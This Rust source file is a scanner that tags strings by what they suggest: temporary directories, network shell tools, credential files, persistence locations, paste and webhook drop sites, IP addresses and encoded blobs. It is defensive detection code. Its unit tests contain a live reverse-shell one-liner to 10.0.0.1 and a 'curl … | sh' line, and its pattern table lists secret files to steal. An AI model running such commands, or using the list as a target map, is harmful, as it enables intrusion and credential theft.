//! What a string says: paths, programs, addresses. Searched in one pass, by the first byte.

use std::sync::LazyLock;

/// A directory that everybody may write.
pub const TEMPORARY: u32 = 1;
/// A shell's way to the network, or a downloader.
pub const DOWNLOAD: u32 = 1 << 1;
/// A shell with its input and output on the network.
pub const REVERSE_SHELL: u32 = 1 << 2;
/// A file of keys, tokens or passwords.
pub const CREDENTIALS: u32 = 1 << 3;
/// Something that is run later by itself.
pub const PERSISTENCE: u32 = 1 << 4;
/// An address of a site where everybody can leave and collect things, or of a cloud's own secrets.
pub const DROP: u32 = 1 << 5;
/// An address of the web.
pub const URL: u32 = 1 << 6;
/// A network address as numbers, not this machine's.
pub const ADDRESS: u32 = 1 << 7;
/// A shell that is told what to do.
pub const SHELL: u32 = 1 << 8;
/// A long text that looks random.
pub const BLOB: u32 = 1 << 9;
/// Another credential file: a second kind.
pub const MORE_CREDENTIALS: u32 = 1 << 10;
/// A file or directory whose name begins with a dot.
pub const HIDDEN: u32 = 1 << 11;
/// Decoding on the command line.
pub const SHELL_DECODE: u32 = 1 << 12;
/// A program of its own is fetched and run: `curl ... | sh`.
pub const PIPE_TO_SHELL: u32 = 1 << 13;
/// An environment variable that makes a later Python or a loader run something.
pub const LOADER_VARIABLE: u32 = 1 << 14;

/// Bytes to look for, and what they say.
type Pattern = (&'static [u8], u32);

/// Patterns in no order; one that begins with a letter has no letter or digit before it.
const PATTERNS: &[Pattern] = &[
    (b"/tmp", TEMPORARY),
    (b"/var/tmp", TEMPORARY),
    (b"/dev/shm", TEMPORARY),
    (b"/run/shm", TEMPORARY),
    (b"/dev/tcp/", DOWNLOAD | REVERSE_SHELL),
    (b"/dev/udp/", DOWNLOAD | REVERSE_SHELL),
    (b"/inet/tcp/", DOWNLOAD | REVERSE_SHELL),
    (b"bash -i", REVERSE_SHELL | SHELL),
    (b"sh -i", REVERSE_SHELL | SHELL),
    (b"nc -", DOWNLOAD),
    (b"nc.traditional", DOWNLOAD),
    (b"ncat ", DOWNLOAD),
    (b"netcat ", DOWNLOAD),
    (b"nc -e", REVERSE_SHELL),
    (b"socat ", DOWNLOAD),
    (b"mkfifo ", SHELL | REVERSE_SHELL),
    (b"telnet ", DOWNLOAD),
    (b"curl ", DOWNLOAD),
    (b"wget ", DOWNLOAD),
    (b"openssl s_client", DOWNLOAD | REVERSE_SHELL),
    (b"bash -c", SHELL),
    (b"sh -c", SHELL),
    (b"base64 -d", SHELL_DECODE),
    (b"base64 --decode", SHELL_DECODE),
    (b"xxd -r", SHELL_DECODE),
    (b"|sh", PIPE_TO_SHELL),
    (b"| sh", PIPE_TO_SHELL),
    (b"|bash", PIPE_TO_SHELL),
    (b"| bash", PIPE_TO_SHELL),
    (b"|python", PIPE_TO_SHELL),
    (b"| python", PIPE_TO_SHELL),
    (b".ssh/id_", CREDENTIALS | MORE_CREDENTIALS),
    (b".ssh", CREDENTIALS),
    (b"id_rsa", CREDENTIALS),
    (b"id_ed25519", CREDENTIALS),
    (b".aws/", CREDENTIALS),
    (b".kube/", CREDENTIALS),
    (b".azure/", CREDENTIALS),
    (b".config/gcloud", CREDENTIALS),
    (b"application_default_credentials", CREDENTIALS),
    (b".npmrc", CREDENTIALS),
    (b".pypirc", CREDENTIALS),
    (b".netrc", CREDENTIALS),
    (b".git-credentials", CREDENTIALS),
    (b".docker/config", CREDENTIALS),
    (b".config/gh/hosts", CREDENTIALS),
    (b".gnupg", CREDENTIALS),
    (b".pgpass", CREDENTIALS),
    (b".vault-token", CREDENTIALS),
    (b"keyrings/", CREDENTIALS),
    (b"wallet.dat", CREDENTIALS),
    (b"logins.json", CREDENTIALS),
    (b"Login Data", CREDENTIALS),
    (b"cookies.sqlite", CREDENTIALS),
    (b".bash_history", CREDENTIALS),
    (b"/etc/shadow", CREDENTIALS | MORE_CREDENTIALS),
    (b"/etc/gshadow", CREDENTIALS),
    (b"serviceaccount/token", CREDENTIALS),
    (b"AWS_SECRET_ACCESS_KEY", CREDENTIALS),
    (b"/proc/self/environ", CREDENTIALS),
    (b"169.254.169.254", CREDENTIALS | DROP),
    (b"metadata.google.internal", CREDENTIALS | DROP),
    (b"authorized_keys", PERSISTENCE),
    (b"crontab", PERSISTENCE),
    (b"/etc/cron", PERSISTENCE),
    (b"/var/spool/cron", PERSISTENCE),
    (b"@reboot", PERSISTENCE),
    (b"systemd/system", PERSISTENCE),
    (b"systemd/user", PERSISTENCE),
    (b"systemctl enable", PERSISTENCE),
    (b"systemctl --user enable", PERSISTENCE),
    (b".bashrc", PERSISTENCE),
    (b".bash_profile", PERSISTENCE),
    (b".profile", PERSISTENCE),
    (b".zshrc", PERSISTENCE),
    (b".zshenv", PERSISTENCE),
    (b"/etc/profile", PERSISTENCE),
    (b"/etc/rc.local", PERSISTENCE),
    (b"/etc/init.d", PERSISTENCE),
    (b"/etc/ld.so.preload", PERSISTENCE),
    (b"/etc/sudoers", PERSISTENCE),
    (b"/etc/passwd", PERSISTENCE),
    (b"autostart/", PERSISTENCE),
    (b"sitecustomize.py", PERSISTENCE),
    (b"usercustomize.py", PERSISTENCE),
    (b"LD_PRELOAD", LOADER_VARIABLE),
    (b"PYTHONSTARTUP", LOADER_VARIABLE),
    (b"PYTHONBREAKPOINT", LOADER_VARIABLE),
    (b"pastebin.com", DROP),
    (b"paste.ee", DROP),
    (b"transfer.sh", DROP),
    (b"webhook.site", DROP),
    (b"discord.com/api/webhooks", DROP),
    (b"discordapp.com/api/webhooks", DROP),
    (b"api.telegram.org", DROP),
    (b"ngrok", DROP),
    (b".onion", DROP),
    (b"oastify.com", DROP),
    (b"oast.", DROP),
    (b"interact.sh", DROP),
    (b"pipedream.net", DROP),
    (b"requestbin", DROP),
    (b"http://", URL),
    (b"https://", URL),
    (b"ftp://", URL),
];

/// The patterns by their first byte, which is ASCII.
static BY_FIRST_BYTE: LazyLock<Vec<Vec<Pattern>>> = LazyLock::new(|| {
    let begins = |byte: u8| PATTERNS.iter().copied().filter(|(pattern, _)| pattern.first() == Some(&byte)).collect();
    (0..128).map(begins).collect()
});

/// Length from which a run of letters and digits without a blank is looked at for randomness.
const BLOB_LENGTH: usize = 160;

/// Everything that the text says.
pub fn scan(text: &[u8]) -> u32 {
    let mut found = 0;
    let mut before = b' ';
    let mut run = 0_usize;
    for (at, byte) in text.iter().copied().enumerate() {
        if !before.is_ascii_alphanumeric() || !byte.is_ascii_alphanumeric() {
            found |= at_place(text, at, byte, before);
        }
        run =
            if byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'_' | b'-') { run + 1 } else { 0 };
        if run == BLOB_LENGTH && looks_random(text.get(at + 1 - run..=at).unwrap_or_default()) {
            found |= BLOB;
        }
        before = byte;
    }
    found
}

fn at_place(text: &[u8], at: usize, byte: u8, before: u8) -> u32 {
    let mut found = 0;
    let patterns = BY_FIRST_BYTE.get(usize::from(byte)).map_or(&[][..], Vec::as_slice);
    if !patterns.is_empty() {
        let rest = text.get(at..).unwrap_or_default();
        for (pattern, says) in patterns {
            if !rest.starts_with(pattern) {
                continue;
            }
            let after = rest.get(pattern.len()).copied().unwrap_or(b' ');
            let word_goes_on = after.is_ascii_alphanumeric() || after == b'_' || after == b'-';
            let is_directory = says & TEMPORARY != 0;
            if is_directory && (word_goes_on || before.is_ascii_alphanumeric())
                || says & LOADER_VARIABLE != 0 && word_goes_on
            {
                continue;
            }
            // `module.profile` and `tool.ssh` are no files.
            let is_file = byte == b'.' && (says & (CREDENTIALS | PERSISTENCE) != 0);
            if is_file
                && (before.is_ascii_alphanumeric()
                    || after.is_ascii_alphanumeric() && !pattern.ends_with(b"/") && !pattern.ends_with(b"_"))
            {
                continue;
            }
            if says & CREDENTIALS != 0 && is_public(rest, pattern) {
                continue;
            }
            found |= says;
        }
    }
    if byte == b'.'
        && matches!(before, b'/')
        && text.get(at + 1).is_some_and(|next| next.is_ascii_alphanumeric() || *next == b'_')
    {
        found |= HIDDEN;
    }
    if byte.is_ascii_digit() && !matches!(before, b'.' | b'-' | b'_') && is_address(text.get(at..).unwrap_or_default())
    {
        found |= ADDRESS;
    }
    found
}

/// `.ssh/config` and the list of known hosts are read by many tools.
fn is_public(rest: &[u8], pattern: &[u8]) -> bool {
    let tail = rest.get(pattern.len()..).unwrap_or_default();
    *pattern == *b".ssh"
        && (tail.starts_with(b"/known_hosts") || tail.starts_with(b"/config") || tail.starts_with(b"/authorized_keys"))
}

/// Four numbers with dots that are no address of this machine or of no machine.
fn is_address(text: &[u8]) -> bool {
    let end = text.iter().take(16).take_while(|byte| byte.is_ascii_digit() || **byte == b'.').count();
    let Some(text) = text.get(..end).and_then(|text| std::str::from_utf8(text).ok()) else { return false };
    let numbers: Vec<&str> = text.split('.').collect();
    let is_number = |number: &&str| number.len() <= 3 && number.parse::<u8>().is_ok();
    numbers.len() == 4
        && numbers.iter().all(is_number)
        && !matches!(numbers.first().copied(), Some("0" | "127" | "255"))
        && text.len() >= 7
        && numbers.iter().any(|number| number.len() > 1)
}

/// Letters of both cases and digits, as evenly as encoded data has them.
fn looks_random(text: &[u8]) -> bool {
    let count = |class: fn(&u8) -> bool| text.iter().filter(|byte| class(byte)).count();
    let upper = count(u8::is_ascii_uppercase);
    let lower = count(u8::is_ascii_lowercase);
    let digits = count(u8::is_ascii_digit);
    let slashes = text.iter().filter(|byte| matches!(byte, b'/' | b'_' | b'-')).count();
    let mixed = upper * 8 > text.len() && lower * 8 > text.len() && digits > 3 && slashes * 10 < text.len();
    let hexadecimal = upper == 0 && digits * 4 > text.len() && text.iter().all(u8::is_ascii_hexdigit);
    mixed && entropy(text) > 4.6 || hexadecimal && entropy(text) > 3.3
}

/// Bits of one byte of the text, if each came alone.
fn entropy(text: &[u8]) -> f32 {
    let mut counts = [0_u16; 256];
    for byte in text {
        if let Some(count) = counts.get_mut(usize::from(*byte)) {
            *count = count.saturating_add(1);
        }
    }
    let length = text.len().max(1) as f32;
    counts.iter().filter(|count| **count > 0).map(|count| f32::from(*count) / length).map(|p| -p * p.log2()).sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paths_and_programs_are_found_as_words() {
        for (text, says) in [
            ("/tmp/x", TEMPORARY),
            ("cd /tmp; ls", TEMPORARY),
            ("curl http://a/b | sh", DOWNLOAD | URL | PIPE_TO_SHELL),
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", REVERSE_SHELL | DOWNLOAD | ADDRESS | SHELL),
            ("~/.ssh/id_rsa", CREDENTIALS),
            ("/root/.ssh/authorized_keys", PERSISTENCE),
        ] {
            assert_eq!(scan(text.as_bytes()) & says, says, "{text}");
        }
        for text in [
            "/home/u/tmpfiles",
            "/home/tmp",
            "pycurl ",
            "rsync -c",
            "module.profile",
            "version 1.2.3.4",
            "see ~/.ssh/config",
        ] {
            let says = scan(text.as_bytes()) & !(HIDDEN | URL);
            assert_eq!(says, 0, "{text}");
        }
    }

    #[test]
    fn encoded_data_looks_random_and_prose_does_not() {
        let mut state = 1_u32;
        let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let random: Vec<u8> = std::iter::repeat_with(|| {
            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            alphabet[usize::try_from(state >> 26).unwrap()]
        })
        .take(400)
        .collect();
        assert_eq!(scan(&random), BLOB);
        assert_eq!(scan("the quick brown fox ".repeat(40).as_bytes()), 0);
        assert_eq!(scan("a".repeat(1000).as_bytes()), 0);
    }
}
